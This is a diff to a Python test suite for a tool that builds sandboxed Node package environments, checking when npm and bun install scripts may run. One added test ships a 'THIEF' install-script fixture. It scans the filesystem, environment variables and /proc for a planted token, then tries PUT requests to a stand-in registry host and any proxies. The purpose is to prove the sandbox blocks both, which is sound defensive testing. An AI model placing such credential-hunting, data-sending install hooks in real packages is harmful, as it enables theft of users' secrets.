@@ -231,15 +231,60 @@ def test_a_dependency_from_elsewhere_is_refused(node, registry):
 
 
 @once
-def test_scripts_of_packages_do_not_run(node, registry):
+@pytest.mark.parametrize("runtime", ["bun", "npm"])
+def test_scripts_of_packages_run_only_when_asked_for(node, registry, runtime):
     script = "node -e \"require('fs').writeFileSync('ran', 'x')\""
     registry.add("scripted", "1.0.0", scripts={"preinstall": script, "install": script, "postinstall": script})
-    for runtime in ("bun", "npm"):
-        found = node.build("quiet", "--npm", "scripted", "--node-runtime", runtime)
-        assert not (node.store / "layers" / found["layers"][0] / "tree/scripted/ran").exists(), runtime
-    found = node.build("loud", "--npm", "scripted", "--allow-scripts")
+    found = node.build("quiet", "--npm", "scripted", "--node-runtime", runtime)
+    assert not (node.store / "layers" / found["layers"][0] / "tree/scripted/ran").exists()
+    found = node.build("loud", "--npm", "scripted", "--node-runtime", runtime, "--allow-scripts")
     assert (node.store / "layers" / found["layers"][0] / "tree/scripted/ran").exists()
     assert json.loads((node.store / "envs" / found["name"] / "meta.json").read_text())["allow_scripts"]
+    assert node.inside("loud", "ls", "node_modules").split() == ["scripted"]
+    registry.add("broken-script", "1.0.0", scripts={"postinstall": "echo it broke >&2; exit 3"})
+    node.refuses("--npm", "broken-script", "--node-runtime", runtime, "--allow-scripts", code="failed", says=["exit", "3"] if runtime == "bun" else [])
+
+
+THIEF = """
+const fs = require('fs'), http = require('http'), net = require('net'), path = require('path'), found = {};
+function walk(directory, depth) {
+  for (const entry of fs.readdirSync(directory, {withFileTypes: true})) {
+    const name = path.join(directory, entry.name);
+    if (entry.isDirectory() && depth < 12 && !['/proc', '/usr', '/sys', '/dev', '/tools'].includes(name)) walk(name, depth + 1);
+    else if (entry.isFile()) try { if (fs.readFileSync(name, 'latin1').includes('stolen-' + 'token')) found[name] = true } catch (e) {}
+  }
+}
+try { walk('/', 0) } catch (e) { found.walk = String(e) }
+for (const [name, value] of Object.entries(process.env)) if (value.includes('stolen-' + 'token')) found[name] = true;
+try { for (const pid of fs.readdirSync('/proc')) if (/^\\d+$/.test(pid)) for (const file of ['environ', 'cmdline'])
+  try { if (fs.readFileSync('/proc/' + pid + '/' + file, 'latin1').includes('stolen-' + 'token')) found[pid + file] = true } catch (e) {} } catch (e) {}
+const proxies = Object.keys(process.env).filter(name => /proxy/i.test(name) && process.env[name].startsWith('http'));
+fs.writeFileSync('report.json', JSON.stringify({found, proxies}));
+const put = (port, target, headers) => port && http.request({host: '127.0.0.1', port, method: 'PUT', path: target, headers}).on('error', () => {}).end('x');
+const address = new URL(process.env.THIEF_REGISTRY || 'http://@HOST@/');
+put(8080, address.href + 'planted', {host: address.host});
+for (const name of proxies) put(new URL(process.env[name]).port, address.href + 'planted', {host: address.host});
+put(address.port, '/planted', {});
+"""
+
+
+@once
+@pytest.mark.parametrize("runtime", ["bun", "npm"])
+def test_scripts_of_packages_find_neither_a_login_nor_a_network(node, registry, tmp, runtime):
+    script = "node thief.js"
+    registry.add("thief", "1.0.0", {"thief.js": THIEF.replace("@HOST@", registry.host)}, scripts={"preinstall": script, "install": script, "postinstall": script})
+    (tmp / "npmrc").write_text(f"registry={registry.url}\n//{registry.host}/:_authToken=stolen-token\n")
+    del node.env["npm_config_registry"]
+    node.env["NPM_CONFIG_USERCONFIG"] = str(tmp / "npmrc")
+    registry.door, before = "Bearer stolen-token", len(registry.written)
+    try:
+        found = node.build("robbed", "--npm", "thief", "--node-runtime", runtime, "--allow-scripts")
+    finally:
+        registry.door = None
+    tree = node.store / "layers" / found["layers"][0] / "tree"
+    assert json.loads((tree / "thief/report.json").read_text()) == {"found": {}, "proxies": []}
+    assert registry.written[before:] == []
+    assert subprocess.run(["grep", "-rl", "stolen-token", node.store], capture_output=True, text=True).stdout == ""
 
 
 @once
@@ -338,6 +383,36 @@ def test_a_workspace_keeps_what_was_installed(node, index, template, tmp):
     finally:
         node("rm", "desk", "project", timeout=60)
         node("serve", "--stop", timeout=60)
+
+
+@once
+@shipped
+def test_clients_of_the_daemon_ask_for_scripts_where_the_operator_allows_it(node, registry):
+    script = "node -e \"require('fs').writeFileSync('ran', 'x')\""
+    registry.add("scripted-later", "1.0.0", scripts={"postinstall": script})
+    config = node.store / "config.yaml"
+    before = config.read_text() if config.exists() else None
+    try:
+        done = node("create", "loud", "--npm", "scripted-later", "--allow-scripts", "-o", "json", timeout=120)
+        error = json.loads(done.stdout)["error"]
+        assert error["code"] == "denied" and "install scripts" in error["message"] and "environments.allow_scripts" in error["hint"], done
+        assert json.loads(node("ls", "-o", "json").stdout) == []
+        node.configure("environments:\n  allow_scripts: true\n")
+        assert node("serve", "--stop", "--force", timeout=60).returncode == 0
+        assert node("create", "loud", "--npm", "scripted-later", "--allow-scripts", timeout=120).returncode == 0
+        assert node("exec", "loud", "--", "cat", "node_modules/scripted-later/ran", timeout=60).stdout == "x"
+        # No more of them once the operator has changed his mind.
+        node.configure("environments:\n  allow_scripts: false\n")
+        assert node("serve", "--stop", "--force", timeout=60).returncode == 0
+        done = node("install", "--node", "loud", "one", timeout=120)
+        assert done.returncode != 0 and "install scripts" in done.stderr, done
+        assert node("exec", "loud", "--", "cat", "node_modules/scripted-later/ran", timeout=60).stdout == "x"
+    finally:
+        node("rm", "loud", timeout=60)
+        config.unlink(missing_ok=True)
+        if before is not None:
+            node.configure(before)
+        node("serve", "--stop", "--force", timeout=60)
 
 
 @once
